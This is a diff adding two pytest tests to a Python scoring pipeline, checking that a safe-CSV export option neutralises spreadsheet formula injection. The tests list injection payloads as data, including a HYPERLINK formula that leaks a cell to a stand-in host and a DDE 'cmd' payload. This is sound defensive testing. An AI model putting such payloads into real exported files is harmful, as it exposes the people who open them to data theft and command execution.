@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 from pathlib import Path
 from typing import Any
@@ -17,6 +18,7 @@ from gpupipe.errors import ConfigError, SchemaError
 from gpupipe.pipeline.model import Model, load_model
 from gpupipe.pipeline.run import run_pipeline
 from gpupipe.pipeline.scoring import ScoreSummary, score
+from gpupipe.pipeline.scoring.outputs import write_table
 from gpupipe.readers.settings import TableSource
 
 N = 200
@@ -251,3 +253,29 @@ def test_rows_are_numbered_through_several_files_of_other_marks(model: Model, tm
     good = batch().assign(score="1.5").drop(index=4)
     np.testing.assert_array_equal(found["probability_yes"], model.predict_proba(good)[:, 1])
     assert found["row"].tolist() == [0, 1, 2, 3, 6, 7, 8, 9, 10] and summary.n_rejected == 3
+
+
+def test_safe_csv_holds_no_formula_and_every_number(model: Model, tmp_path: Path) -> None:
+    dangerous = ['=HYPERLINK("http://x/?"&A1,"go")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1"]
+    plain = ["a", "", "-5", "+1.5e-3", "a=b", " =1", "'=1"]
+    texts = pa.chunked_array([dangerous, plain])
+    table = pa.table({"=name": texts, "coded": texts.dictionary_encode(), "n": pa.array([-1.5] * len(texts))})
+    write_table(table, tmp_path / "t.csv", safe_csv=True)
+    with (tmp_path / "t.csv").open(newline="") as file:
+        header, *rows = csv.reader(file)
+    assert header == ["'=name", "coded", "n"]
+    expected = [f"'{text}" for text in dangerous] + plain
+    assert rows == [[text, text, "-1.5"] for text in expected]
+    write_table(table, tmp_path / "t.csv")
+    assert pd.read_csv(tmp_path / "t.csv", keep_default_na=False)["=name"].tolist()[:4] == dangerous[:4]
+
+
+def test_safe_csv_is_of_scores_and_of_rejected_rows(model: Model, tmp_path: Path) -> None:
+    rows = frame()
+    rows["note"], rows.loc[3, "plan"] = "=1+1", "=2+2"
+    rows.to_csv(tmp_path / "t.csv", index=False)
+    options: dict[str, Any] = {"keep": ["note"], "on_error": "reject", "safe_csv": True}
+    summary = score(model.folder, str(tmp_path / "t.csv"), tmp_path / "s.csv", **options)
+    assert summary.rejected_path is not None
+    assert set(pd.read_csv(tmp_path / "s.csv")["note"]) == {"'=1+1"}
+    assert pd.read_csv(summary.rejected_path)["value"].tolist() == ["'=2+2"]
